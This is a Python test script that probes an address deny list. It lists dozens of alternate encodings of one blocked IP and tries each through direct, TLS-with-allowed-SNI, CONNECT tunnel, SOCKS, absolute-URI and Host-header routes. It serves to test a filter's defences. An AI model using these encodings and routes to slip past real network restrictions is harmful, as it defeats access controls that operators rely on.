"""Every way to write the denied address, and that of an allowed name."""

from probe import *

LITERALS = """
203.0.113.20 203.0.113.20. 203.0.113.020 0313.0.0161.024 0313.0.0161.20 0xcb.0x0.0x71.0x14
0xcb007114 3405803796 203.0.28948 203.28948 0xcb.28948
2001:db8::20 [2001:db8::20] 2001:db8::20%lo [2001:db8::20%25lo]
::ffff:203.0.113.20 [::ffff:203.0.113.20] ::ffff:cb00:7114 [::203.0.113.20]
[64:ff9b::203.0.113.20] ０xcb007114 ２０３.0.113.20 203。0。113。20
203.0.113.10 203.0.113.10:80 0xcb00710a 2001:db8::10 [2001:db8::10]
""".split()
BINARY = [
    ("203.0.113.20", 1),
    ("203.0.113.10", 1),
    ("2001:db8::20", 4),
    ("::ffff:203.0.113.20", 4),
    ("::ffff:203.0.113.10", 4),
]


def control():
    for literal in LITERALS:
        get = request(wire(literal), "/" + TOKEN)
        say("control", hello_in(send(literal.strip("[]"), 80, get)))


def attack():
    for literal in LITERALS:
        text, bare = wire(literal), literal.strip("[]")
        get = request(text, "/" + TOKEN)
        say("direct", send(bare, 80, get))
        say("secure", tls(bare, 443, "allowed.test", get))
        say("tunnel", tunnel(text + ":80", get))
        say("tunnel", tls_tunnel(text + ":443", "allowed.test", get))
        say("socks", by_socks(text, 80, get))
        say("absolute", absolute(text, "/" + TOKEN))
        say("host", send("allowed.test", 80, get))
    for address, kind in BINARY:
        say("binary", by_socks(address, 80, request("allowed.test", "/" + TOKEN), kind))


start(attack, control)
